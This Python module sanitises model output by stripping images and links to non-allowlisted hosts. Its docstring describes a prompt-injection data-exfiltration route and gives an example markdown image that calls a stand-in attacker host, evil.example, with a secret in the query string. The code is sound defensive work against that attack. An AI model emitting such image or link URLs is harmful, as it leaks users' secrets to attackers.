"""Output hygiene: neutralise markdown images and links that point off the allowlist.

A model that read an injected instruction can smuggle data out through a URL
the user's renderer fetches (``![x](https://evil.example/?q=<secret>)``) or a
link the user clicks. Model output shown to the user or passed to another model
goes through :func:`neutralize_links`: images and links to hosts that are not
allowlisted keep their text and lose their URL; bare URLs to such hosts (which
renderers turn into links) are removed too.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from urllib.parse import urlparse

__all__ = ["neutralize_links"]

_URL = r"<?([^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?"
_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*" + _URL + r"\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*" + _URL + r"\s*\)")
_REF_DEF = re.compile(r"^( {0,3}\[[^\]]+\]:)\s*<?(\S+?)>?(\s+.*)?$", re.M)
_AUTOLINK = re.compile(r"<((?:https?|ftp|data|javascript):[^\s>]+)>", re.I)
_HTML_IMG = re.compile(r"<img\b[^>]*>", re.I)
_HTML_LINK = re.compile(r"<a\b[^>]*>(.*?)</a>", re.I | re.S)
_BARE = re.compile(r"\b(?:https?|ftp)://[^\s<>()\"']+", re.I)


def _allowed(url: str, allowed: Sequence[str]) -> bool:
    url = url.strip()
    if not url or url.startswith("#"):
        return True  # an in-page anchor goes nowhere
    try:
        parsed = urlparse(url)
    except ValueError:  # e.g. "http://127.0.0.1:8080]" (a bracket glued to it): not a link
        return False
    if not parsed.scheme and not parsed.netloc:
        return not url.startswith("//")  # a relative path stays on the rendering site
    if parsed.scheme.lower() not in ("http", "https"):
        return False  # data:, javascript:, file: …
    host = (parsed.hostname or "").lower()
    return any(host == h.lower() or host.endswith("." + h.lower()) for h in allowed)


def neutralize_links(text: str, allowed_hosts: Sequence[str] = ()) -> str:
    """``text`` with images and links to non-allowlisted hosts made inert.

    Args:
        text: Model output (markdown or plain text).
        allowed_hosts: Hosts (and their subdomains) whose links and images may stay.

    Returns:
        The text, where ``![alt](url)`` becomes ``[image removed: alt]`` and ``[text](url)``
        becomes ``text [link removed]`` unless the URL's host is allowlisted.
    """
    if "](" not in text and "<" not in text and "]:" not in text and "://" not in text:
        return text

    def image(m: re.Match[str]) -> str:
        if _allowed(m.group(2), allowed_hosts):
            return m.group(0)
        alt = m.group(1).strip()
        return f"[image removed: {alt}]" if alt else "[image removed]"

    def link(m: re.Match[str]) -> str:
        if _allowed(m.group(2), allowed_hosts):
            return m.group(0)
        return f"{m.group(1)} [link removed]"

    def ref(m: re.Match[str]) -> str:
        if _allowed(m.group(2), allowed_hosts):
            return m.group(0)
        return f"{m.group(1)} [link removed]"

    def auto(m: re.Match[str]) -> str:
        return m.group(0) if _allowed(m.group(1), allowed_hosts) else "[link removed]"

    def html_img(m: re.Match[str]) -> str:
        src = re.search(r"src\s*=\s*[\"']?([^\"'\s>]+)", m.group(0), re.I)
        return m.group(0) if src and _allowed(src.group(1), allowed_hosts) else "[image removed]"

    def html_link(m: re.Match[str]) -> str:
        href = re.search(r"href\s*=\s*[\"']?([^\"'\s>]+)", m.group(0), re.I)
        if href and _allowed(href.group(1), allowed_hosts):
            return m.group(0)
        return f"{m.group(1)} [link removed]"

    text = _IMAGE.sub(image, text)
    text = _LINK.sub(link, text)
    text = _REF_DEF.sub(ref, text)
    text = _AUTOLINK.sub(auto, text)
    text = _HTML_IMG.sub(html_img, text)
    text = _HTML_LINK.sub(html_link, text)
    return _BARE.sub(
        lambda m: m.group(0) if _allowed(m.group(0), allowed_hosts) else "[link removed]", text
    )
